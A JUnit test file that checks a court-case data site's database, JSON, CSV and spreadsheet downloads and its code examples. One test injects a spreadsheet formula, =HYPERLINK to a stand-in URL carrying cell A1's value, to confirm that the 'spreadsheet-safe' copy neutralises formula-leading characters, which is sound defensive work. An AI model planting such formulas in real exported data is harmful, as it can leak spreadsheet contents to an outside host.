package org.casebook.site;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;

/** The downloads of the shipped site that hold all tables, and the programs that read them. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class DownloadsTest {
    @TempDir
    private static Path folder;

    private PublishedSite site;

    @BeforeAll
    void build() throws IOException {
        site = PublishedSite.build(Path.of(""), folder.resolve("site"));
    }

    @Test
    void theDatabaseHoldsEveryCsvWithKeysThatHold() throws Exception {
        try (Connection database = sqlite();
                Statement statement = database.createStatement()) {
            assertThat(column(statement, "PRAGMA integrity_check")).containsExactly("ok");
            assertThat(column(statement, "PRAGMA foreign_key_check")).isEmpty();
            List<String> tables =
                    column(statement, "SELECT name FROM sqlite_schema WHERE type = 'table' ORDER BY rowid");
            assertThat(tables)
                    .contains("fines", "case_articles", "person_aliases", "statistics_by_company_and_article")
                    .endsWith("about", "data_dictionary");
            for (String file : csvs()) {
                String table = file.substring("data/".length(), file.length() - ".csv".length())
                        .replace('-', '_')
                        .replace('/', '_');
                List<List<String>> rows = new ArrayList<>();
                try (ResultSet result = statement.executeQuery("SELECT * FROM " + table)) {
                    int columns = result.getMetaData().getColumnCount();
                    List<String> header = new ArrayList<>();
                    for (int number = 1; number <= columns; number++) {
                        header.add(result.getMetaData().getColumnName(number));
                    }
                    rows.add(header);
                    while (result.next()) {
                        List<String> row = new ArrayList<>();
                        for (int number = 1; number <= columns; number++) {
                            row.add(Optional.ofNullable(result.getString(number))
                                    .orElse(""));
                        }
                        rows.add(row);
                    }
                }
                assertThat(rows).as(file).isEqualTo(records(site.text(file)));
            }
        }
    }

    @Test
    void theDatabaseKnowsNumbersDaysAndWhatIsNotKnown() throws Exception {
        try (Connection database = sqlite();
                Statement statement = database.createStatement()) {
            assertThat(column(
                            statement,
                            "SELECT typeof(amount) || ' ' || typeof(amount_low) FROM fines WHERE case_id = 'f-003'"))
                    .containsExactly("text integer");
            assertThat(column(statement, "SELECT amount_low + 1 FROM fines WHERE case_id = 'f-003'"))
                    .as("a fine of 22 680 tenge")
                    .containsExactly("22681");
            assertThat(column(
                            statement,
                            "SELECT count(*) FROM dismissals WHERE people_high IS NULL AND people_low = 200"))
                    .containsExactly("1");
            assertThat(column(statement, "SELECT type FROM pragma_table_info('fines') WHERE name = 'date_earliest'"))
                    .containsExactly("DATE");
            assertThat(column(statement, "SELECT name FROM pragma_table_info('fines') WHERE pk = 1"))
                    .containsExactly("case_id");
            assertThat(
                            column(
                                    statement,
                                    "SELECT \"table\" FROM pragma_foreign_key_list('case_articles') WHERE \"from\" = 'article_id'"))
                    .containsExactly("articles");
            assertThat(
                            column(
                                    statement,
                                    "SELECT title FROM data_dictionary WHERE table_name = 'fines' AND column_name = 'amount' AND language = 'ru'"))
                    .singleElement()
                    .asString()
                    .isNotEmpty();
            assertThat(column(statement, "SELECT value FROM about WHERE name = 'data_as_of'"))
                    .containsExactly("2011-10-10");
        }
    }

    @Test
    void jsonHoldsEveryTableWithNumbersListsAndWhatIsNotKnown() throws IOException {
        LoaderOptions large = new LoaderOptions();
        large.setCodePointLimit(Integer.MAX_VALUE);
        Map<?, ?> document = new Yaml(large).load(site.text("data/casebook.json"));
        assertThat(document.get("data_as_of").toString()).isEqualTo("2011-10-10");
        Map<?, ?> tables = (Map<?, ?>) document.get("tables");
        for (String file : csvs()) {
            String name = file.substring("data/".length(), file.length() - ".csv".length())
                    .replace('/', '-');
            if (tables.containsKey(name)) {
                assertThat((List<?>) tables.get(name))
                        .as(file)
                        .hasSize(records(site.text(file)).size() - 1);
            }
        }
        assertThat(tables.containsKey("statistics-totals")).isTrue();
        Map<?, ?> fine = row(tables, "fines", "f-003");
        assertThat(fine.get("amount_low")).isEqualTo(22680);
        Map<?, ?> sentence = row(tables, "sentences", "s-001");
        assertThat(sentence.get("article_ids")).isEqualTo(List.of("kz-criminal-1997-334", "kz-criminal-1997-164"));
        Map<?, ?> dismissal = row(tables, "dismissals", "d-001");
        assertThat(dismissal.get("people_low")).isEqualTo(200);
        assertThat(dismissal.containsKey("people_high")).isTrue();
        assertThat(dismissal.get("people_high")).isNull();
        assertThat(dismissal.get("company_ids")).isEqualTo(List.of("several"));
    }

    @Test
    void theyAreOfferedWhereverTheDataAre() throws IOException {
        String page = site.text("data/index.html");
        String catalogue = site.text("data/dcat.ttl");
        for (String file : List.of(
                "casebook.sqlite", "casebook.json", "spreadsheet-safe.zip", "casebook.zip", "casebook-ru.xlsx")) {
            assertThat(site.page("data/index.html").select("dl.files a[href$=" + file + "]"))
                    .as(file)
                    .hasSize(1);
            assertThat(page.substring(page.indexOf("application/ld+json"))).contains("data/" + file);
            assertThat(catalogue).contains("dcat:downloadURL <" + file + ">");
            assertThat(site.text("SHA256SUMS")).contains("data/" + file);
        }
        assertThat(site.text("data/datapackage.json"))
                .contains("\"path\" : \"casebook.sqlite\"", "\"path\" : \"casebook.json\"");
        assertThat(site.page("data/index.html")
                        .select("dl.files div:has(a[href$=spreadsheet-safe.zip])")
                        .text())
                .contains("Not for analysis");
    }

    @Test
    void noSpreadsheetTakesACellOfTheSafeCopyForAFormula() throws IOException {
        EditedPublication strike = EditedPublication.copyOf("ferry-strike", folder.resolve("strike"));
        String formula = "=HYPERLINK(\"\"https://example.org/?\"\"&A1,\"\"Open\"\")";
        strike.replace("data/fines.csv", "Some four pickets were fined.", '"' + formula + '"');
        PublishedSite edited = strike.build(folder.resolve("strike-site"));
        String plain = formula.replace("\"\"", "\"");
        assertThat(edited.text("data/fines.csv")).contains('"' + formula + '"');
        assertThat(records(edited.text("data/fines.csv")).stream().flatMap(List::stream))
                .contains(plain);
        try (ZipFile zip =
                new ZipFile(edited.root().resolve("data/spreadsheet-safe.zip").toFile())) {
            List<String> names = zip.stream().map(ZipEntry::getName).toList();
            assertThat(names).contains("README.txt", "fines.csv", "case-articles.csv", "statistics/totals.csv");
            assertThat(records(text(zip, "fines.csv")).stream().flatMap(List::stream))
                    .contains("'" + plain);
            for (String name : names) {
                if (name.endsWith(".csv")) {
                    String text = text(zip, name);
                    assertThat(text).as("Excel reads it as UTF-8").startsWith("\uFEFF");
                    List<List<String>> safe = records(text.substring(1));
                    assertThat(safe.stream().flatMap(List::stream))
                            .as(name)
                            .noneMatch(cell -> cell.matches("(?s)[=+\\-@\t\r].*"));
                    List<List<String>> withoutMarks = safe.stream()
                            .map(row -> row.stream()
                                    .map(cell -> cell.startsWith("'") ? cell.substring(1) : cell)
                                    .toList())
                            .toList();
                    assertThat(withoutMarks).as(name).isEqualTo(records(edited.text("data/" + name)));
                }
            }
        }
    }

    @Test
    void duckDbReadsTheExamplesAndEveryCsvWithNoOptionSet() throws Exception {
        try (Connection duck = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = duck.createStatement()) {
            // Where the tests run there is a data folder too: the publisher's.
            String here = "'" + site.root() + "/data/";
            for (String one : example("DuckDB").replace("'data/", here).split(";\n?", -1)) {
                if (!one.isBlank()) {
                    statement.execute(one);
                }
            }
            assertThat(column(statement, "SELECT count(*) FROM dismissals"))
                    .containsExactly(String.valueOf(
                            records(site.text("data/dismissals.csv")).size() - 1));
            assertThat(column(statement, "SELECT DISTINCT typeof(publish) || typeof(date_earliest) FROM dismissals"))
                    .as("a word is no truth value, whatever words there are today")
                    .containsExactly("VARCHARDATE");
            Map<String, List<List<String>>> read = new LinkedHashMap<>();
            Map<String, List<List<String>>> written = new LinkedHashMap<>();
            for (String file : csvs()) {
                List<List<String>> records = records(site.text(file));
                try (ResultSet result =
                        statement.executeQuery("FROM '" + site.root().resolve(file) + "'")) {
                    List<String> header = new ArrayList<>();
                    for (int number = 1; number <= result.getMetaData().getColumnCount(); number++) {
                        header.add(result.getMetaData().getColumnName(number));
                    }
                    int rows = 0;
                    while (result.next()) {
                        rows++;
                    }
                    read.put(file, List.of(header, List.of(String.valueOf(rows))));
                }
                written.put(file, List.of(records.get(0), List.of(String.valueOf(records.size() - 1))));
            }
            assertThat(read).isEqualTo(written);
        }
    }

    @Test
    void sqliteRunsItsExample() throws Exception {
        try (Connection database = sqlite();
                Statement statement = database.createStatement()) {
            long people = records(site.text("data/statistics/totals.csv")).stream()
                    .filter(row -> row.contains("people"))
                    .count();
            assertThat(people).isPositive();
            assertThat(column(statement, example("SQLite"))).hasSize((int) people);
        }
    }

    @Test
    @Tag("pandas")
    void pandasRunsItsExampleAndReadsEveryCsvWithNoOptionSet() throws Exception {
        String read = run("python3", "-c", example("pandas") + "\nprint('rows', len(dismissals))");
        assertThat(read)
                .contains("\nrows " + (records(site.text("data/dismissals.csv")).size() - 1) + "\n");
        StringBuilder all = new StringBuilder("import pandas as pd\n");
        StringBuilder expected = new StringBuilder();
        for (String file : csvs()) {
            List<List<String>> records = records(site.text(file));
            all.append("t = pd.read_csv('").append(file).append("'); print(len(t), ','.join(t.columns))\n");
            expected.append(records.size() - 1)
                    .append(' ')
                    .append(String.join(",", records.get(0)))
                    .append('\n');
        }
        assertThat(run("python3", "-c", all.toString())).isEqualTo(expected.toString());
    }

    @Test
    @Tag("polars")
    void polarsRunsItsExample() throws Exception {
        assertThat(run("python3", "-c", example("polars") + "\nprint('rows', len(dismissals))"))
                .contains("\nrows " + (records(site.text("data/dismissals.csv")).size() - 1) + "\n");
    }

    @Test
    @Tag("r")
    void rRunsItsExample() throws Exception {
        assertThat(run("Rscript", "-e", example("readr") + "\ncat('\\nrows', nrow(dismissals), '\\n')"))
                .contains("\nrows " + (records(site.text("data/dismissals.csv")).size() - 1) + " ");
    }

    /** The code as it stands on the page. */
    private String example(String program) throws IOException {
        return site.page("data/index.html").select("h3").stream()
                .filter(head -> head.text().contains(program))
                .map(head -> head.nextElementSibling().wholeText())
                .findFirst()
                .orElseThrow();
    }

    private List<String> csvs() throws IOException {
        return site.files().stream()
                .filter(file -> file.matches("data/([^/]+|statistics/.+)\\.csv"))
                .toList();
    }

    private Connection sqlite() throws SQLException {
        return DriverManager.getConnection("jdbc:sqlite:" + site.root().resolve("data/casebook.sqlite"));
    }

    private static List<String> column(Statement statement, String sql) throws SQLException {
        List<String> values = new ArrayList<>();
        try (ResultSet result = statement.executeQuery(sql)) {
            while (result.next()) {
                values.add(result.getString(1));
            }
        }
        return values;
    }

    private static Map<?, ?> row(Map<?, ?> tables, String table, String id) {
        return ((List<?>) tables.get(table))
                .stream()
                        .map(row -> (Map<?, ?>) row)
                        .filter(row -> row.get("case_id").equals(id))
                        .findFirst()
                        .orElseThrow();
    }

    private static List<List<String>> records(String text) throws IOException {
        try (CSVParser parser = CSVParser.parse(text.replaceFirst("^\uFEFF", ""), CSVFormat.RFC4180)) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        }
    }

    private static String text(ZipFile zip, String entry) throws IOException {
        try (InputStream in = zip.getInputStream(zip.getEntry(entry))) {
            return new String(in.readAllBytes(), UTF_8);
        }
    }

    /** Runs a program in the site's folder, and gives what it says. */
    private String run(String... command) throws IOException, InterruptedException {
        Process process = new ProcessBuilder(command)
                .directory(site.root().toFile())
                .redirectErrorStream(true)
                .start();
        String said = new String(process.getInputStream().readAllBytes(), UTF_8);
        assertThat(process.waitFor()).as(said).isZero();
        return said;
    }
}
